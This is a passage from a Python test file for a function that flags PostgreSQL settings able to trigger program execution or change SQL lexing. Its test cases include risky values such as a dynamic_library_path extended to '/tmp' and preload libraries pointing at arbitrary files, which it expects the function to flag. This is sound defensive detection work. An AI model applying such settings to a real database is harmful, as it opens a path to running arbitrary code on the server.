    ("session_preload_libraries", "", False),
    ("shared_preload_libraries", "pg_stat_statements, auto_explain", False),
    ("shared_preload_libraries", "pg_stat_statements, $libdir/x", True),
    ("local_preload_libraries", None, True),
    ("dynamic_library_path", "$libdir", False),
    ("dynamic_library_path", "", True),
    ("dynamic_library_path", "$libdir:/tmp", True),
    ("work_mem", "64MB", False),
    ("work_mem", None, False),
])
def test_setting_reach(name: str, value: str | None, runs: bool) -> None:
    expected = {StatementClass.program_execution} if runs else set()
    assert setting_reach(name, value) == expected


def test_setting_reach_holds_the_lexer_settings_too() -> None:
    assert setting_reach("standard_conforming_strings", "off") == {StatementClass.lexer_setting}
    assert setting_reach("client_encoding", "UTF-8") == set()
    assert setting_reach("backslash_quote", None) == {StatementClass.lexer_setting}
